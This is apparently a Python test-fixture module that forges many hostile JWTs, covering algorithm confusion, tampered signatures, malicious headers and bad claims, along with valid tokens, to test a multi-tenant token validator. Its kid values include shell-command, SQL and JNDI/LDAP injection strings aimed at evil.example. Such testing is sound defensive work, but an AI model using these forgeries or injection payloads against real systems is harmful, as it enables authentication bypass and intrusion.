"""Tokens made by hand: hostile ones, by group, and good ones in every spelling that counts.

Two tenants share the keys of one issuer, as Entra's do: TENANT takes RS256 and ES256, OTHER_TENANT PS256. Each hostile token differs from a
good one in the one thing that its name says, and is signed with the right key wherever that is not the point.
"""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA1, SHA256, SHA512
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc import jwe
from joserfc.jwk import RSAKey

from rightful.identity.permissions import GLOBAL_ADMINISTRATOR
from rightful.ids import PERSONAL_ACCOUNTS
from rightful.testing.issuer import APP_ID, AUDIENCE, SimulatedIssuer

TENANT = "11111111-1111-1111-1111-111111111111"
OTHER_TENANT = "22222222-2222-2222-2222-222222222222"
CANARY = "CanaryOfTheToken"
"""Stands in every hostile token; no answer and no log may show it."""
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


class Forge:
    """Makes tokens of an issuer, in any form."""

    def __init__(self, issuer: SimulatedIssuer) -> None:
        self.issuer = issuer
        self.key, self.curve_key, self.kid, self.curve_kid = issuer.key, issuer.curve_key, issuer.kid, issuer.curve_kid
        self.stranger = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        self.now_s = int(time.time())

    # -- parts --------------------------------------------------------------------------------------------------------
    def header(self, **changes: Any) -> bytes:
        return json.dumps({"alg": "RS256", "typ": "JWT", "kid": self.kid} | changes).encode()

    def claims(self, **changes: Any) -> dict[str, Any]:
        return self.issuer.claims(**{"uti": CANARY} | changes)

    def payload(self, **changes: Any) -> bytes:
        return json.dumps(self.claims(**changes)).encode()

    def more(self, member: str) -> bytes:
        """Return the payload with one more member, spelt as given."""
        return self.payload()[:-1] + b", " + member.encode() + b"}"

    def spelt(self, name: str, value: str) -> bytes:
        """Return the payload with a member whose value is spelt as given."""
        return self.payload(**{name: "@@"}).replace(b'"@@"', value.encode())

    def header_spelt(self, name: str, value: str) -> bytes:
        return self.header(**{name: "@@"}).replace(b'"@@"', value.encode())

    # -- whole --------------------------------------------------------------------------------------------------------
    def token(self, header: bytes | None = None, payload: bytes | None = None, *, alg: str = "RS256", key: Any = None) -> str:
        """Sign any bytes as header and payload, by an algorithm that the header need not name."""
        if key is None:
            key = self.curve_key if alg == "ES256" else self.key
        text = f"{b64(self.header() if header is None else header)}.{b64(self.payload() if payload is None else payload)}"
        return f"{text}.{b64(jwt.get_algorithm_by_name(alg).sign(text.encode(), key))}"

    def good(self, **changes: Any) -> str:
        return self.token(payload=self.payload(**changes))

    def named(self, alg: str, kid: str = "", **changes: Any) -> bytes:
        return self.header(alg=alg, kid=kid or (self.curve_kid if alg == "ES256" else self.kid), **changes)

    def with_signature(self, change: Callable[[bytes], bytes], alg: str = "RS256") -> str:
        text, _, signature = self.token(self.named(alg), alg=alg).rpartition(".")
        return f"{text}.{b64(change(unb64(signature)))}"

    def segment(self, number: int, change: Callable[[str], str]) -> str:
        parts = self.good().split(".")
        parts[number] = change(parts[number])
        return ".".join(parts)

    def hmac(self, secret: bytes, alg: str = "HS256") -> str:
        text = f"{b64(self.header(alg=alg))}.{b64(self.payload())}"
        return f"{text}.{b64(hmac.digest(secret, text.encode(), f'sha{alg[2:]}'))}"

    def public(self, encoding: Encoding, form: PublicFormat) -> bytes:
        return self.key.public_key().public_bytes(encoding, form)

    def stranger_jwk(self) -> dict[str, str]:
        numbers = self.stranger.public_key().public_numbers()
        return {"kty": "RSA", "n": b64(numbers.n.to_bytes(256, "big")), "e": "AQAB", "kid": CANARY}


Crafted = dict[str, str]


def algorithms(f: Forge) -> Crafted:
    made: Crafted = {}
    for name in ("none", "None", "NONE", "nOnE", "", "RS256 ", "rs256", "Rs256", "RS256\0", "RS512,RS256", "HS256RS256"):  # fmt: skip
        made[f"alg {name!r}, signed"] = f.token(f.header(alg=name))
        made[f"alg {name!r}, no signature"] = f.token(f.header(alg=name)).rpartition(".")[0] + "."
    for value in ("null", "0", "true", '["RS256"]', '{"RS256": 1}', '["RS256", "none"]'):
        made[f"alg {value}"] = f.token(f.header_spelt("alg", value))
    made["alg missing"] = f.token(json.dumps({"typ": "JWT", "kid": f.kid}).encode())
    made["alg in another case"] = f.token(json.dumps({"ALG": "RS256", "kid": f.kid}).encode())
    pem, der = f.public(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo), f.public(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    secrets = {
        "the public PEM": pem,
        "the public PEM, stripped": pem.strip(),
        "the public PEM, CRLF": pem.replace(b"\n", b"\r\n"),
        "the public DER": der,
        "the public PKCS1": f.public(Encoding.PEM, PublicFormat.PKCS1),
        "the JWK": json.dumps(f.issuer.jwk()).encode(),
        "the JWKS": f.issuer.jwks(),
        "the modulus": f.key.public_key().public_numbers().n.to_bytes(256, "big"),
        "nothing": b"",
        "the kid": f.kid.encode(),
        "the audience": AUDIENCE.encode(),
    }
    for what, secret in secrets.items():
        made |= {f"{alg} with {what}": f.hmac(secret, alg) for alg in ("HS256", "HS384", "HS512")}
    text = f.token().rpartition(".")[0]
    made["RS256 said, HMAC made"] = f"{text}.{b64(hmac.digest(pem, text.encode(), 'sha256'))}"
    for alg in ("RS384", "RS512", "PS384", "PS512"):
        made[f"{alg}, well signed"] = f.token(f.header(alg=alg), alg=alg)
        made[f"{alg} signed, RS256 said"] = f.token(alg=alg)
    made["PS256 where RS256 and ES256 count"] = f.token(f.named("PS256"), alg="PS256")
    elsewhere = f.payload(tid=OTHER_TENANT, iss=f.issuer.issuer.replace(TENANT, OTHER_TENANT))
    made["RS256 where PS256 counts"] = f.token(payload=elsewhere)
    made["ES256 where PS256 counts"] = f.token(f.named("ES256"), elsewhere, alg="ES256")
    for said in ("RS256", "PS256", "ES256"):
        for alg in {"RS256", "PS256", "ES256"} - {said}:
            for kid in (f.kid, f.curve_kid):
                made[f"{said} said, {alg} made, kid of {'RSA' if kid == f.kid else 'EC'}"] = f.token(f.named(said, kid), alg=alg)
    made["RS256 with the kid of EC"] = f.token(f.named("RS256", f.curve_kid))
    made["ES256 with the kid of RSA"] = f.token(f.named("ES256", f.kid), alg="ES256")
    curves: dict[str, ec.EllipticCurve] = {"ES256K": ec.SECP256K1(), "ES384": ec.SECP384R1(), "ES512": ec.SECP521R1()}
    for alg, curve in curves.items():
        key = ec.generate_private_key(curve)
        made[alg] = f.token(f.header(alg=alg, kid=f.curve_kid), alg=alg, key=key)
        text = f.token(f.named("ES256")).rpartition(".")[0]
        r, s = decode_dss_signature(key.sign(text.encode(), ec.ECDSA(SHA256())))
        made[f"ES256 said, on the curve of {alg}"] = f"{text}.{b64(b''.join(x.to_bytes((curve.key_size + 7) // 8, 'big') for x in (r, s)))}"
    made["EdDSA"] = f.token(f.header(alg="EdDSA", kid=f.curve_kid), alg="EdDSA", key=ed25519.Ed25519PrivateKey.generate())
    return made


def signatures(f: Forge) -> Crafted:
    whole = (f.key.key_size + 7) // 8
    modulus = f.key.public_key().public_numbers().n
    text = f.token().rpartition(".")[0]
    made: Crafted = {
        "no signature": text + ".",
        "no segment for it": text,
        "of a stranger with the same kid": f.token(key=f.stranger),
        "of another token": f"{text}.{f.good(uti='another').rpartition('.')[2]}",
        "of the header alone": f"{text}.{b64(f.key.sign(text.split('.')[0].encode(), padding.PKCS1v15(), SHA256()))}",
        "of the payload alone": f"{text}.{b64(f.key.sign(text.split('.')[1].encode(), padding.PKCS1v15(), SHA256()))}",
        "of the decoded parts": f"{text}.{b64(f.key.sign(f.header() + b'.' + f.payload(), padding.PKCS1v15(), SHA256()))}",
        "by SHA-1": f"{text}.{b64(f.key.sign(text.encode(), padding.PKCS1v15(), SHA1()))}",
        "by SHA-512": f"{text}.{b64(f.key.sign(text.encode(), padding.PKCS1v15(), SHA512()))}",
        "that is the digest": f"{text}.{b64(hashlib.sha256(text.encode()).digest())}",
        "plus the modulus": f.with_signature(lambda raw: (int.from_bytes(raw, "big") + modulus).to_bytes(whole + 1, "big")),
        "zeros": f.with_signature(lambda raw: bytes(len(raw))),
        "a one": f.with_signature(lambda raw: bytes(len(raw) - 1) + b"\1"),
        "ones": f.with_signature(lambda raw: b"\xff" * len(raw)),
        "the modulus": f.with_signature(lambda _: modulus.to_bytes(whole, "big")),
        "the modulus less one": f.with_signature(lambda _: (modulus - 1).to_bytes(whole, "big")),
        "a zero before": f.with_signature(lambda raw: b"\0" + raw),
        "a zero behind": f.with_signature(lambda raw: raw + b"\0"),
        "backwards": f.with_signature(lambda raw: raw[::-1]),
        "twice": f.with_signature(lambda raw: raw + raw),
        "padded with =": f.good() + "==",
        "padded with one =": f.good() + "=",
        "other last bits": f.segment(2, _last_bits),
        "in the plain alphabet": f.segment(2, lambda part: "+/" + part[2:]),
        "length that no base64 has": f.segment(2, lambda part: part + "A" * ((1 - len(part)) % 4)),
        "payload changed": f.segment(1, lambda _: b64(f.payload(roles=["User.Export.All", "x"]))),
        "header changed": f.segment(0, lambda _: b64(f.header(typ="at+jwt"))),
        "payload with a blank more": f.segment(1, lambda part: b64(unb64(part) + b" ")),
    }
    for cut in (1, 2, 3, 4, 128, 255):
        made[f"cut by {cut} bytes"] = f.with_signature(lambda raw, cut=cut: raw[:-cut])  # type: ignore[misc]  # bound here, for the loop
    for bit in (0, 7, 1023, 1024, 2040, 2047):
        made[f"bit {bit} flipped"] = f.with_signature(lambda raw, bit=bit: _flipped(raw, bit))  # type: ignore[misc]  # likewise
        made[f"ES256, bit {bit % 512} flipped"] = f.with_signature(lambda raw, bit=bit: _flipped(raw, bit % 512), "ES256")  # type: ignore[misc]  # likewise
    forms: dict[str, Callable[[bytes], bytes]] = {
        "DER": lambda raw: encode_dss_signature(int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")),
        "zeros": lambda raw: bytes(len(raw)),
        "r zero": lambda raw: bytes(32) + raw[32:],
        "s zero": lambda raw: raw[:32] + bytes(32),
        "r and s the order": lambda _: P256_ORDER.to_bytes(32, "big") * 2,
        "s plus the order": lambda raw: raw[:32] + ((int.from_bytes(raw[32:], "big") + P256_ORDER) % 2**256).to_bytes(32, "big"),
        "ones": lambda raw: b"\xff" * len(raw),
        "r and s swapped": lambda raw: raw[32:] + raw[:32],
        "cut": lambda raw: raw[:-1],
        "padded": lambda raw: raw + b"\0",
        "in the size of P-384": lambda raw: bytes(16) + raw[:32] + bytes(16) + raw[32:],
        "in the size of P-521": lambda raw: bytes(34) + raw[:32] + bytes(34) + raw[32:],
        "r alone": lambda raw: raw[:32],
    }
    made |= {f"ES256 as {what}": f.with_signature(change, "ES256") for what, change in forms.items()}
    made["ES256 of a stranger with the same kid"] = f.token(f.named("ES256"), alg="ES256", key=ec.generate_private_key(ec.SECP256R1()))
    return made


def _last_bits(part: str) -> str:
    """Spell the same bytes otherwise: bits that a lenient decoder drops."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return part[:-1] + alphabet[alphabet.index(part[-1]) ^ 1]


def _respelt(f: Forge, number: int) -> str:
    """Sign a text in which a segment is not spelt as its bytes are."""
    parts = [b64(part + b" " * ((1 - len(part)) % 3)) for part in (f.header(), f.payload())]
    parts[number] = _last_bits(parts[number])
    text = ".".join(parts)
    return f"{text}.{b64(f.key.sign(text.encode(), padding.PKCS1v15(), SHA256()))}"


def _flipped(raw: bytes, bit: int) -> bytes:
    return (int.from_bytes(raw, "big") ^ (1 << bit)).to_bytes(len(raw), "big")


def headers(f: Forge) -> Crafted:
    members: dict[str, Any] = {
        "crit of what is known": {"crit": ["exp"], "exp": 1},
        "crit of b64": {"crit": ["b64"], "b64": False},
        "crit of b64, true": {"crit": ["b64"], "b64": True},
        "crit empty": {"crit": []},
        "crit null": {"crit": None},
        "crit a text": {"crit": "exp"},
        "crit of the unknown": {"crit": ["x"], "x": 1},
        "crit of alg": {"crit": ["alg"]},
        "b64 false": {"b64": False},
        "b64 true": {"b64": True},
        "zip": {"zip": "DEF"},
        "enc": {"enc": "A256GCM"},
        "cty": {"cty": "JWT"},
        "jwk of the issuer": {"jwk": f.issuer.jwk()},
        "jku": {"jku": "https://evil.example/keys"},
        "jku of the issuer": {"jku": f.issuer.jwks_uri},
        "jku beside the issuer's": {"jku": f"{f.issuer.base}/../evil"},
        "x5u": {"x5u": "https://evil.example/cert"},
        "x5c": {"x5c": ["MIIB"]},
        "x5c empty": {"x5c": []},
        "url": {"url": "https://rightful.example/"},
        "nonce": {"nonce": "n"},
        "p2c": {"p2c": 10**9},
        "epk": {"epk": {"kty": "EC"}},
        "iss in the header": {"iss": f.issuer.issuer},
        "an unknown member": {CANARY: 1},
        "an empty name": {"": 1},
        **{
            f"typ {value!r}": {"typ": value}
            for value in ("logout+jwt", "secevent+jwt", "dpop+jwt", "JWE", "JWT ", "", "id+jwt", "aT+jwt+x")
        },
        **{f"typ {value!r}": {"typ": value} for value in (None, 1, True, ["JWT"], {"JWT": 1})},
        **{f"kid {value!r}": {"kid": value} for value in (None, 7, 0, True, [f.kid], {"kid": f.kid}, "")},
        "kid in upper case": {"kid": f.kid.upper()},
        "kid with a blank": {"kid": f.kid + " "},
        "kid with a line feed": {"kid": f.kid + "\n"},
        "kid with NUL": {"kid": f.kid + "\0"},
        "kid full-width": {"kid": "".join(chr(ord(letter) + 0xFEE0) for letter in f.kid)},
        "kid a lone surrogate": {"kid": "\ud800"},
        "kid long": {"kid": CANARY * 400},
    }
    for kid in (
        CANARY,
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "file:///dev/null",
        "/proc/self/environ",
        "issuer.pem",
        "https://evil.example/jwk",
        "x' UNION SELECT 'key",
        "' OR '1'='1' --",
        'x"; DROP TABLE keys; --',
        "$(touch /tmp/owned)",
        "|/usr/bin/id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "__proto__",
        "%00",
    ):
        members[f"kid {kid}"] = {"kid": kid}
    made = {what: f.token(f.header(**changes)) for what, changes in members.items()}
    made["kid missing"] = f.token(json.dumps({"alg": "RS256", "typ": "JWT"}).encode())
    made["own jwk, signed with it"] = f.token(f.header(jwk=f.stranger_jwk()), key=f.stranger)
    made["own jwk and kid, signed with it"] = f.token(f.header(jwk=f.stranger_jwk(), kid=CANARY), key=f.stranger)
    made["jku of a stranger, signed by him"] = f.token(f.header(jku="https://evil.example/keys"), key=f.stranger)
    made["x5c of a stranger, signed by him"] = f.token(f.header(x5c=[b64(f.stranger.public_key().public_bytes(Encoding.DER, PublicFormat.PKCS1))]), key=f.stranger)  # fmt: skip
    made["kid of PEM"] = f.token(f.header(kid=f.public(Encoding.PEM, PublicFormat.PKCS1).decode()))
    good = f.header()
    texts = {
        "alg twice": good[:-1] + b', "alg": "RS256"}',
        "alg twice, none first": b'{"alg": "none", ' + good[1:],
        "alg twice, by an escape": good[:-1] + b', "\\u0061lg": "none"}',
        "kid twice": good[:-1] + b', "kid": "x"}',
        "kid twice, the right one last": b'{"kid": "x", ' + good[1:],
        "typ twice": good[:-1] + b', "typ": "JWT"}',
        "a list": b'["RS256"]',
        "a text": b'"RS256"',
        "null": b"null",
        "a number": b"1",
        "empty": b"",
        "an empty object": b"{}",
        "no JSON": b"RS256",
        "text behind it": good + b"{}",
        "a comment": good[:-1] + b"/* */}",
        "a comma too many": good[:-1] + b",}",
        "single quotes": good.replace(b'"', b"'"),
        "UTF-16": good.decode().encode("utf-16"),
        "no UTF-8": good[:-1] + b', "x": "\xff"}',
        "NaN": good.replace(b'"JWT"', b"NaN"),
        "nested deep": b'{"alg":' + b"[" * 5000 + b"]" * 5000 + b"}",
        "open at its end": good[:-1],
    }
    return made | {f"header: {what}": f.token(text) for what, text in texts.items()}


def forms(f: Forge) -> Crafted:
    good = f.good()
    head, body, signature = good.split(".")
    wide = "".join(chr(ord(letter) + 0xFEE0) for letter in good[:20])
    inner = {"alg": "RSA-OAEP", "enc": "A256GCM", "cty": "JWT", "kid": f.kid}
    encrypted = jwe.encrypt_compact(inner, good.encode(), RSAKey.import_key(f.public(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)))
    flat = json.dumps({"protected": head, "payload": body, "signature": signature})
    return {
        "a word": CANARY,
        "one dot": ".",
        "two dots": "..",
        "three dots": "...",
        "one segment": head,
        "four segments": f"{good}.{signature}",
        "five segments": f"{good}.x.y",
        "six segments": f"{good}.x.y.z",
        "the first segment empty": f".{body}.{signature}",
        "the second empty": f"{head}..{signature}",
        "detached payload": f"{head}..{f.token(payload=b'').rpartition('.')[2]}",
        "a JWE with a good token in it": encrypted,
        "JSON serialization, flattened": flat.replace(" ", ""),
        "JSON serialization, flattened, in base64": b64(flat.encode()),
        "JSON serialization, general": json.dumps({"payload": body, "signatures": [{"protected": head, "signature": signature}]}).replace(
            " ", ""
        ),
        "nested: a token as payload": f.token(payload=good.encode()),
        "nested: a token as a JSON text": f.token(payload=json.dumps(good).encode()),
        "two tokens with a comma": f"{good},{good}",
        "two tokens with a blank": f"{good} {good}",
        "a blank inside": good.replace(".", ". ", 1),
        "a tab inside": good.replace(".", ".\t", 1),
        "a scheme more": f"Bearer {good}",
        "quoted": f'"{good}"',
        "in brackets": f"<{good}>",
        "percent-encoded": good.replace(".", "%2E"),
        "dots full-width": good.replace(".", "\uff0e"),
        "letters full-width": wide + good[20:],
        "digits Arabic": good.replace("1", "\u0661").replace("2", "\u0662"),
        "a zero-width blank": good[:10] + "\u200b" + good[10:],
        "a letter with an accent": good + "\u00e9",
        "a BOM before": "\ufeff" + good,
        "something behind, by &": good + "&x=1",
        "something behind, by ;": good + ";x=1",
        "something behind, by #": good + "#x",
        "in base64 once more": b64(good.encode()),
        "in upper case": good.upper(),
        "in lower case": good.lower(),
        "backwards": good[::-1],
        "segments turned round": f"{signature}.{body}.{head}",
        "header and payload swapped": f.token(f.payload(), f.header()),
        "the header for all": f"{head}.{head}.{head}",
        "header padded with =": f"{head}=.{body}.{signature}",
        "header with other last bits": _respelt(f, 0),
        "payload with other last bits": _respelt(f, 1),
        "too long": f.good(padding="x" * 14_000),
    }


def payloads(f: Forge) -> Crafted:
    good = f.payload()
    claims = json.loads(good)
    texts: dict[str, bytes] = {
        "a list": json.dumps([claims]).encode(),
        "a text": b'"claims"',
        "null": b"null",
        "a number": b"1795866434",
        "true": b"true",
        "empty": b"",
        "an empty object": b"{}",
        "a form": b"sub=ann&tid=" + TENANT.encode(),
        "text behind it": good + b"{}",
        "two objects": good + good,
        "NUL behind it": good + b"\0",
        "a comment": good[:-1] + b"// x\n}",
        "a comma too many": good[:-1] + b",}",
        "open at its end": good[:-1],
        "single quotes": good.replace(b'"', b"'"),
        "UTF-16": good.decode().encode("utf-16"),
        "UTF-32": good.decode().encode("utf-32"),
        "Latin-1": good[:-1] + b', "name": "\xe9"}',
        "overlong UTF-8": good.replace(b"api", b"\xc1\xa1pi"),
        "nested deep": good[:-1] + b', "x": ' + b"[" * 3000 + b"]" * 3000 + b"}",
        "nested deep and open": b"[" * 6000,
        "compressed": base64.b64decode("H4sIAAAAAAAC/6uuBQBDv6ajAgAAAA=="),
        "NaN": f.more('"x": NaN'),
        "Infinity": f.more('"x": -Infinity'),
        "a number of 5000 digits": f.more('"x": ' + "9" * 5000),
        "a control character": f.more('"x": "\n"'),
        "member twice, deep": f.more('"x": [{"y": {"a": 1, "a": 1}}]'),
        "tid twice, another first": f'{{"tid": "{OTHER_TENANT}", '.encode() + good[1:],
        "tid twice, another last": f.more(f'"tid": "{OTHER_TENANT}"'),
        "tid twice, by an escape": f.more(f'"\\u0074id": "{TENANT}"'),
    }
    for name in ("tid", "iss", "aud", "oid", "azp", "exp", "nbf", "roles", "idtyp", "ver"):
        texts[f"{name} twice, the same"] = f.more(f'"{name}": {json.dumps(claims[name])}')
    return {f"payload: {what}": f.token(payload=text) for what, text in texts.items()}


def times(f: Forge) -> Crafted:
    now = f.now_s
    made = {
        "exp missing": f.good(exp=None),
        "exp a minute and a second ago": f.good(exp=now - 61),
        "exp an hour ago": f.good(exp=now - 3600),
        "exp zero": f.good(exp=0),
        "exp negative": f.good(exp=-1),
        "exp in milliseconds": f.good(exp=now * 1000),
        "exp as a date": f.good(exp="2030-01-01T00:00:00Z"),
        "nbf in two minutes": f.good(nbf=now + 120),
        "iat in two minutes": f.good(iat=now + 120),
        "nbf in a year": f.good(nbf=now + 365 * 86400, exp=now + 366 * 86400),
        "nbf negative": f.good(nbf=-1),
    }
    wrong = {"null": "null", "true": "true", "a text": f'"{now + 60}"', "Arabic digits": '"\\u0661\\u0662"', "a list": f"[{now + 60}]", "an object": "{}", "1e400": "1e400", "10 to 40": "1" + "0" * 40, "10 to 400": "1" + "0" * 400, "-1e400": "-1e400", "1e300": "1e300"}  # fmt: skip
    for name in ("exp", "nbf", "iat"):
        made |= {f"{name} {what}": f.token(payload=f.spelt(name, value)) for what, value in wrong.items()}
    return made


def places(f: Forge) -> Crafted:
    """Issuer, tenant, audience: what keeps tenants apart (GRAPH-74)."""
    iss, other = f.issuer.issuer, f.issuer.issuer.replace(TENANT, OTHER_TENANT)
    issuers: dict[str, Any] = {
        "missing": None,
        "of another tenant": other,
        "unknown": "https://evil.example/v2.0",
        "with a slash": iss + "/",
        "without its end": iss.removesuffix("/v2.0"),
        "of v1, which is not configured": f"https://sts.windows.net/{TENANT}/",
        "in upper case": iss.upper(),
        "by https": iss.replace("http:", "https:"),
        "by name": iss.replace("127.0.0.1", "localhost"),
        "with a blank": iss + " ",
        "with a query": iss + "?",
        "with a fragment": iss + "#",
        "with a user": iss.replace("//", "//evil@"),
        "up and down": iss.replace("/v2.0", "/x/../v2.0"),
        "with NUL": iss + "\0",
        "a list": [iss],
        "a list of both": [iss, other],
        "an object": {iss: True},
        "a number": 7,
        "true": True,
        "empty": "",
        "with a template": iss.replace(TENANT, "{tenantid}"),
    }
    tenants: dict[str, Any] = {
        "missing": None,
        "of another tenant": OTHER_TENANT,
        "of nobody": "33333333-3333-3333-3333-333333333333",
        "in braces": f"{{{TENANT}}}",
        "without dashes": TENANT.replace("-", ""),
        "as urn": f"urn:uuid:{TENANT}",
        "with a blank": f" {TENANT}",
        "with a line feed": f"{TENANT}\n",
        "full-width": "".join(chr(ord(letter) + 0xFEE0) if letter != "-" else letter for letter in TENANT),
        "a list": [TENANT],
        "a list of both": [TENANT, OTHER_TENANT],
        "an object": {TENANT: 1},
        "a number": 11111111,
        "empty": "",
        "common": "common",
    }
    audiences: dict[str, Any] = {
        "missing": None,
        "empty": "",
        "an empty list": [],
        "of Graph": "https://graph.microsoft.com",
        "Graph's id": "00000003-0000-0000-c000-000000000000",
        "cut": AUDIENCE[:-1],
        "longer": AUDIENCE + "x",
        "with a slash": AUDIENCE + "/",
        "in upper case": AUDIENCE.upper(),
        "with a blank": AUDIENCE + " ",
        "without its scheme": AUDIENCE.removeprefix("api://"),
        "with a star": "api://*",
        "the issuer": iss,
        "the application": APP_ID,
        "one of two": [AUDIENCE, "https://graph.microsoft.com"],
        "the second of two": ["https://graph.microsoft.com", AUDIENCE],
        "twice": [AUDIENCE, AUDIENCE],
        "nested": [[AUDIENCE]],
        "a list with a number": [7],
        "an object": {AUDIENCE: True},
        "a number": 7,
        "true": True,
        "two in a text": f"{AUDIENCE} https://graph.microsoft.com",
    }
    made = {f"iss {what}": f.good(iss=value) for what, value in issuers.items()}
    made |= {f"tid {what}": f.good(tid=value) for what, value in tenants.items()}
    made |= {f"aud {what}": f.good(aud=value) for what, value in audiences.items()}
    for name in ("iss", "tid", "aud"):
        made[f"{name} null"] = f.token(payload=f.spelt(name, "null"))
    made["tid of personal accounts"] = f.token(payload=f.payload(tid=PERSONAL_ACCOUNTS), key=f.stranger)
    made["tid of personal accounts, for another service"] = f.good(tid=PERSONAL_ACCOUNTS, aud="x")
    made["tid and iss of another tenant, which takes PS256"] = f.good(tid=OTHER_TENANT, iss=other)
    return made


def callers(f: Forge) -> Crafted:
    changes: dict[str, dict[str, Any]] = {
        "oid missing": {"oid": None},
        "oid a number": {"oid": 7},
        "oid a list": {"oid": ["a"]},
        "oid empty": {"oid": ""},
        "oid with a slash": {"oid": "a/b"},
        "oid with a line feed": {"oid": "a\nb"},
        "oid a lone surrogate": {"oid": "\ud800"},
        "oid too long": {"oid": "a" * 200},
        "azp missing": {"azp": None},
        "azp a list": {"azp": [APP_ID]},
        "azp empty": {"azp": ""},
        "azp and appid differ": {"appid": "8b1d0c5e-3c1f-4d0a-9a55-1f8f6f0f2a10"},
        "azp and appid, one a number": {"appid": 7},
        "idtyp unknown": {"idtyp": "device"},
        "idtyp in upper case": {"idtyp": "APP"},
        "idtyp a list": {"idtyp": ["app"]},
        "idtyp empty": {"idtyp": ""},
        "roles a text": {"roles": "User.Export.All"},
        "roles with a number": {"roles": ["User.Export.All", 7]},
        "roles an object": {"roles": {"User.Export.All": True}},
        "roles nested": {"roles": [["User.Export.All"]]},
        "scp a list": {"idtyp": "user", "scp": ["User.Export.All"]},
        "scp a number": {"idtyp": "user", "scp": 7},
        "wids a text": {"wids": GLOBAL_ADMINISTRATOR},
        "an id token": {"azp": None, "idtyp": None, "nonce": "n"},
        "an id token with azp": {"idtyp": None, "nonce": "n"},
        "an id token with at_hash": {"at_hash": "x"},
        "an id token with c_hash": {"c_hash": "x"},
        "an id token by typ": {"typ": "ID"},
        "a logout token": {"events": {"http://schemas.openid.net/event/backchannel-logout": {}}},
    }
    made = {what: f.good(**claims) for what, claims in changes.items()}
    for name in ("idtyp", "roles", "scp", "wids"):
        made[f"{name} null"] = f.token(payload=f.spelt(name, "null"))
    return made


def hostile(f: Forge) -> Crafted:
    """Return them all by name: `group: what`."""
    groups = (algorithms, signatures, headers, forms, payloads, times, places, callers)
    return {f"{group.__name__}: {what}": text for group in groups for what, text in group(f).items()}


def good(f: Forge) -> Crafted:
    """Return tokens that must be accepted, so that nobody passes by refusing everything."""
    elsewhere = {"tid": OTHER_TENANT, "iss": f.issuer.issuer.replace(TENANT, OTHER_TENANT)}
    person = {"idtyp": "user", "roles": None, "scp": "User.Export.All", "wids": [GLOBAL_ADMINISTRATOR]}
    header, claims = f.header(), f.claims()
    return {
        "an application's": f.good(),
        "a person's": f.good(**person),
        "v1": f.good(azp=None, appid=APP_ID, ver="1.0"),
        "azp and appid alike": f.good(appid=APP_ID),
        "no idtyp": f.good(idtyp=None),
        "ES256": f.token(f.named("ES256"), alg="ES256"),
        "ES256, a person's": f.token(f.named("ES256"), f.payload(**person), alg="ES256"),
        "PS256 in the other tenant": f.token(f.named("PS256"), f.payload(**elsewhere), alg="PS256"),
        "no typ": f.token(json.dumps({"alg": "RS256", "kid": f.kid}).encode()),
        **{f"typ {name}": f.token(f.header(typ=name)) for name in ("jwt", "Jwt", "at+jwt", "AT+JWT", "application/at+jwt")},
        "x5t": f.token(f.header(x5t="abc")),
        "x5t#S256": f.token(f.header(**{"x5t#S256": "abc"})),
        "aud in a list": f.good(aud=[AUDIENCE]),
        "exp half a minute ago": f.good(exp=f.now_s - 30),
        "nbf in half a minute": f.good(nbf=f.now_s + 30),
        "exp with a fraction": f.good(exp=f.now_s + 600.5),
        "exp as 1e10": f.token(payload=f.spelt("exp", "1e10")),
        "exp far": f.good(exp=2**33),
        "no nbf": f.good(nbf=None),
        "no iat": f.good(iat=None),
        "nbf zero": f.good(nbf=0),
        "unknown claims": f.good(acr="1", amr=["pwd"], xms_tcdt=1_600_000_000, name="Ann", deviceid=None),
        "claims beyond ASCII": f.token(payload=json.dumps(f.claims(name="安 🐟 é"), ensure_ascii=False).encode()),
        "claims escaped": f.good(name="安 🐟 é"),
        "a big number in a claim": f.good(x=10**300),
        "a claim nested": f.good(x={"a": [{"b": [1, 2]}]}),
        "a name in another case": f.good(TID=OTHER_TENANT, Iss="x"),
        "blanks between": f.token(json.dumps(json.loads(header), indent=2).encode(), json.dumps(claims, indent=2).encode()),
        "no blanks": f.token(payload=json.dumps(claims, separators=(",", ":")).encode()),
        "names escaped": f.token(payload=f.payload().replace(b'"tid"', b'"\\u0074id"')),
        "members turned round": f.token(payload=json.dumps(dict(reversed(claims.items()))).encode()),
        "members of the header turned round": f.token(json.dumps(dict(reversed(json.loads(header).items()))).encode()),
        "no permission too": f.good(roles=["User.Read.All"]),
        "long": f.good(groups=[f"11111111-0000-4000-8000-{number:012}" for number in range(200)]),
    }
